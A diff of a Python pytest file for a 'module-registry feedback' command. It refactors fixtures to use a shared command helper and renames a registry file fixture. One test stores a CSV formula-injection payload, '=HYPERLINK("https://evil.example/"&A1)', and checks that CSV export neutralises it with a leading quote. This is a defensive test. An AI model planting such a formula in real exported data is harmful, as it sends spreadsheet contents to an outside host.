@@ -7,11 +7,12 @@ import io
 import json
 import subprocess
 from collections.abc import Callable
+from functools import partial
 from pathlib import Path
 
 import pytest
 from redis import Redis
-from support import OPERATOR, run
+from support import OPERATOR
 
 from service.accounts import store as accounts
 from service.accounts.sessions import Caller
@@ -31,23 +32,15 @@ Feedback = Callable[..., subprocess.CompletedProcess[str]]
 
 
 @pytest.fixture
-def registry_file(tmp_path: Path) -> Path:
-    file = tmp_path / "registry.yaml"
-    file.write_text(REGISTRY)
-    return file
-
-
-@pytest.fixture
-def feedback(valkey_url: str, registry_file: Path) -> Feedback:
+def feedback(command: Feedback) -> Feedback:
     """Run `module-registry feedback ARGUMENTS`."""
-    settings = {"REDIS_URL": valkey_url, "REGISTRY_FILE": str(registry_file)}
-    return lambda *arguments, stdin="": run("feedback", *arguments, stdin=stdin, **settings)
+    return partial(command, "feedback")
 
 
 @pytest.fixture
-def threads(redis: Redis, registry_file: Path) -> list[Thread]:
+def threads(redis: Redis, file: Path) -> list[Thread]:
     """One of Alice's, and one of Zoe's, which is the later one."""
-    registry = load(registry_file)
+    registry = load(file)
     found = []
     for account_id, module in (("alice", "sms"), ("zoe", "crm")):
         accounts.add(redis, Account(account_id, "active", name=account_id.title()), by=OPERATOR)
@@ -55,7 +48,7 @@ def threads(redis: Redis, registry_file: Path) -> list[Thread]:
     return found
 
 
-def test_list(feedback: Feedback, threads: list[Thread], redis: Redis, registry_file: Path) -> None:
+def test_list(feedback: Feedback, threads: list[Thread], redis: Redis, file: Path) -> None:
     alices, zoes = threads
     lines = feedback("list").stdout.splitlines()
     assert " ".join(lines[0].split()) == "id status unread module account name updated last message"
@@ -69,7 +62,7 @@ def test_list(feedback: Feedback, threads: list[Thread], redis: Redis, registry_
     unknown = feedback("list", "--module", "smss")
     assert (unknown.returncode, unknown.stderr) == (1, "smss is no module; did you mean sms?\n")
     text = '=HYPERLINK("https://evil.example/"&A1)'
-    store.add_message(redis, alices.id, text, load(registry_file), by=Actor.account("alice"))
+    store.add_message(redis, alices.id, text, load(file), by=Actor.account("alice"))
     rows = {row["id"]: row for row in csv.DictReader(io.StringIO(feedback("list", "--format", "csv").stdout))}
     assert rows.keys() == {alices.id, zoes.id}
     assert rows[alices.id]["last message"].startswith("'=HYPERLINK"), "which no spreadsheet runs"
